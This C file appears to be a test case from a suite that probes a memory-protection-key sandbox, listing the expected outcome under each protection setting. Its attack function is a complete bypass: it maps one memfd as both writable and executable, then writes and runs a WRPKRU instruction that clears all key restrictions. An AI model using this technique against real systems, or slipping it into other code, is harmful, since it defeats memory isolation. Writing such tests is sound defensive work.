/* Code that is executable here and writable there: bytes checked when they were mapped, changed afterwards by the alias. */
/* none: succeeded */
/* no keys: SIGILL */
/* pkey: EACCES */
/* process: SIGILL | succeeded */
#include "attack.h"

static int attack(void)
{
	/* xor eax,eax; xor ecx,ecx; xor edx,edx; wrpkru; ret */
	static const unsigned char code[] = { 0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3 };
	int fd = memfd_create("alias", 0);
	if (fd < 0 || ftruncate(fd, 4096))
		return errno;
	char *writable = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	void (*run)(void) = mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	if (writable == MAP_FAILED || (void *)run == MAP_FAILED)
		return errno;
	memcpy(writable, code, sizeof code);
	run();
	return *(volatile uint64_t *)CONTROL ? 0 : REFUSED;
}
